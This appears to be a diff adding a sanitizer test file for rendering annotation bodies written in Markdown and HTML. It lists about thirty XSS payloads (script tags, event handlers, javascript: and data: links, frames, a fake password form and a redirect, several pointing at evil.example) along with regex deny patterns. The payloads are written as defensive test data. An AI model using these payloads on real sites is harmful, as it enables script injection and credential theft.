@@ -1,0 +1,78 @@
+import { describe, expect, it } from 'vitest'
+import { renderBody } from './render.ts'
+
+describe('the body of an annotation', () => {
+  it('is Markdown with tables, code, lists and links', () => {
+    const html = renderBody(
+      '# Hi\n\n**bold** [site](https://example.com)\n\n| a |\n|---|\n| 1 |\n\n```js\nx < 1\n```\n\n- [x] done\n- [ ] open',
+    )
+    expect(html).toContain('<h1>Hi</h1>')
+    expect(html).toContain('<strong>bold</strong>')
+    expect(html).toContain('<a href="https://example.com" rel="nofollow noopener noreferrer">site</a>')
+    expect(html).toContain('<td>1</td>')
+    expect(html).toContain('<code class="language-js">x &lt; 1')
+    expect(html).toContain('☑ done')
+    expect(html).toContain('☐ open')
+  })
+
+  it('may be HTML', () => {
+    const html = '<details open><summary>Logs</summary><pre>ok</pre></details>'
+    expect(renderBody(html)).toBe('<details open><summary>Logs</summary><pre>ok</pre></details>')
+    expect(renderBody('<img src="https://example.com/a.png" alt="a">')).toContain(
+      '<img src="https://example.com/a.png" alt="a"',
+    )
+  })
+
+  it.each([
+    ['a script', '<script>alert(1)</script>'],
+    ['a script in capitals', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>'],
+    ['a script split over tags', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
+    ['an event handler', '<img src=x onerror=alert(1)>'],
+    ['an event handler without spaces', '<img/src=x/onerror=alert(1)>'],
+    ['an event handler on an allowed tag', '<details open ontoggle="alert(1)">x</details>'],
+    ['a javascript: link', '<a href="javascript:alert(1)">x</a>'],
+    ['a javascript: link in Markdown', '[x](javascript:alert(1))'],
+    ['a javascript: link in disguise', '[x](jAvAsCrIpT&#58;alert(1))'],
+    ['a javascript: link with control characters', '<a href="java\tscript:alert(1)">x</a>'],
+    ['a javascript: link with entities', '<a href="&#x6A;avascript&colon;alert(1)">x</a>'],
+    ['a vbscript: link', '<a href="vbscript:msgbox(1)">x</a>'],
+    ['a data: link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
+    ['a data: picture', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
+    ['an autolink to a script', '<javascript:alert(1)>'],
+    ['a style attribute', '<p style="background:url(https://evil.example)">x</p>'],
+    ['a style sheet', '<style>body { display: none }</style>'],
+    ['a linked style sheet', '<link rel=stylesheet href=https://evil.example/x.css>'],
+    ['a frame', '<iframe src="https://evil.example"></iframe>'],
+    ['a frame with a document', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
+    ['an object', '<object data="https://evil.example/x.swf"></object>'],
+    ['an embed', '<embed src="https://evil.example/x.swf">'],
+    ['a vector drawing', '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>'],
+    ['mathematics', '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>'],
+    ['a form', '<form action="https://evil.example"><input name=password><button>Sign in</button></form>'],
+    ['a redirect', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
+    ['a base address', '<base href="https://evil.example/">'],
+    ['a name the page may stumble over', '<a id="location" name="config" href="https://example.com">x</a>'],
+    ['a template', '<template><script>alert(1)</script></template>'],
+    [
+      'hidden text that turns into a script',
+      '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    ],
+    ['a comment that ends early', '<!--><img src=x onerror=alert(1)>-->'],
+    ['a link that leaves out the protocol', '<a href="//evil.example">x</a>'],
+    ['a class of our own pages', '<div class="modal">x</div>'],
+  ])('cannot hold %s', (_, body) => {
+    const tags = [...renderBody(body).matchAll(/<[^>]*>/g)].map(([tag]) => tag).join('')
+    expect(tags).not.toMatch(
+      /<\/?(script|style|link|iframe|object|embed|svg|math|form|input|button|meta|base|template|noscript)\b/i,
+    )
+    expect(tags).not.toMatch(/\s(on\w+|style|id|name|srcdoc|class)\s*=/i)
+    expect(tags).not.toMatch(/javascript|vbscript|data:|\/\/evil/i)
+  })
+
+  it('is shown as it was written when rendering it takes too long or too much', () => {
+    for (const body of ['_a'.repeat(200_000), '> '.repeat(100_000)]) {
+      const html = renderBody(body)
+      expect(html.slice(0, 8)).toMatch(/^<pre>(_a|&gt)/)
+    }
+  })
+})
